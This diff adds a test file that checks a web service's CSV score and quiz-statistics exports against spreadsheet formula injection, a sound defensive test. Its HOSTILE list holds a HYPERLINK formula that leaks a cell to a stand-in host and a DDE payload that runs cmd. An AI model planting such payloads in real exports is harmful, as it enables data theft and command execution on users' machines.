@@ -1,0 +1,86 @@
+"""Formula injection: no CSV the service writes has a cell a spreadsheet would run.
+
+Every export goes through ``web.services.csv_export.csv_text``; these tests put hostile names
+and answers into the database and read each export back with the ``csv`` module.
+"""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from pages_support import ada, db_session, env, grade_queued, prof  # noqa: F401
+from web.services.csv_export import FORMULA_PREFIXES, csv_text, neutralise
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
+           "+1+1", "-2+3", "\t=1+1", "\r=1+1"]
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def _dangerous(cells) -> list[str]:
+    return [c for c in cells if c.startswith(FORMULA_PREFIXES)]
+
+
+@pytest.mark.parametrize("value", HOSTILE)
+def test_a_string_that_starts_a_formula_is_quoted_as_text(value):
+    assert neutralise(value) == "'" + value
+    assert _cells(csv_text(["name"], [[value]])) == ["name", "'" + value]
+
+
+def test_numbers_stay_numbers_and_harmless_text_is_untouched():
+    assert neutralise(-0.25) == -0.25 and neutralise(3) == 3 and neutralise(None) == ""
+    assert neutralise(True) == "true"
+    assert neutralise("ada@example.org") == "ada@example.org"  # @ inside is fine
+    assert neutralise("-3") == "'-3"  # a string from outside, even if it looks like a number
+    assert _cells(csv_text(["d"], [[-0.25]])) == ["d", "-0.25"]
+
+
+def _hostile_students(env):
+    from web.models import User
+    with db_session(env) as session:
+        ada_row = session.query(User).filter_by(email="ada@example.org").one()
+        ada_row.name = HOSTILE[0]
+        bob_row = session.query(User).filter_by(email="bob@example.org").one()
+        bob_row.name = HOSTILE[1]
+        session.commit()
+
+
+def test_every_score_export_neutralises_names(env, ada, prof):
+    _hostile_students(env)
+    ada.post("/tasks/sdpa", data={"code": "a = 1\n# SCORE=6\n"})
+    grade_queued(env)
+    exports = {layout: prof.get(f"/instructor/scores.csv?layout={layout}")
+               for layout in ("plain", "canvas", "moodle")}
+    from web.auth import issue_token
+    from web.services.users import find_user
+    with db_session(env) as session:
+        token = issue_token(session, find_user(session, "prof@example.org"))
+        session.commit()
+    exports["api"] = prof.get("/api/v1/scores.csv", headers={"Authorization": f"Bearer {token}"})
+    for layout, response in exports.items():
+        assert response.status_code == 200, layout
+        cells = _cells(response.get_data(as_text=True))
+        assert "'" + HOSTILE[0] in cells and "'" + HOSTILE[1] in cells, layout
+        assert not _dangerous(cells), (layout, _dangerous(cells))
+    canvas = list(csv.reader(io.StringIO(exports["canvas"].get_data(as_text=True))))
+    ada_row = next(r for r in canvas if r[3] == "ada@example.org")
+    assert "6" in ada_row  # the score is still a plain number
+
+
+def test_question_statistics_export_neutralises_students_answers(env, ada, prof):
+    numeric = "head-dimension"
+    ada.post("/quiz/quiz/start")
+    ada.post(f"/quiz/quiz/questions/{numeric}", data={f"q-{numeric}-number": "-3"})
+    ada.post("/quiz/quiz/submit")
+    response = prof.get("/instructor/assignments/quiz/quiz-questions.csv")
+    assert response.status_code == 200 and response.mimetype == "text/csv"
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    row = next(r for r in rows if r["question_id"] == numeric)
+    assert row["responses"] == "1" and row["facility"] == "0.0"
+    assert "-3" in row["answers"]  # the typed answer is inside the cell, not at its start
+    assert not _dangerous(_cells(response.get_data(as_text=True)))
+    assert prof.get("/instructor/assignments/sdpa/quiz-questions.csv").status_code == 404
